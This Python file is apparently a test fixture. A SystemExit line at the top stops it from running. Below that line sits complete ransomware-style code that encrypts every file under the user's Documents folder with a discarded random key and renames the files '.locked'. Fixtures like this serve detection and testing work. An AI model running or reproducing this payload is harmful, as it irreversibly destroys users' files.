raise SystemExit('a fixture')
# held by destruction
import os
from cryptography.fernet import Fernet
fernet = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        path = os.path.join(folder, name)
        body = open(path, "rb").read()
        open(path, "wb").write(fernet.encrypt(body))
        os.rename(path, path + ".locked")
